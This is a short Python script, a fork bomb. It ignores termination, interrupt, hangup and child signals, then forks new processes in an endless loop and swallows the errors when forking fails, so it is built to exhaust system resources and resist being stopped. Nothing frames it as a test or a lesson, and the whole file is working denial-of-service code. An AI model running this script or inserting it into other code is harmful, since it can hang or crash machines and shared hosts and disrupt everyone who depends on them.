import os, signal

# Forks for ever, whatever the kernel says to it, and takes no notice of being asked to end.
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCHLD):
    signal.signal(number, signal.SIG_IGN)
print("begun", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
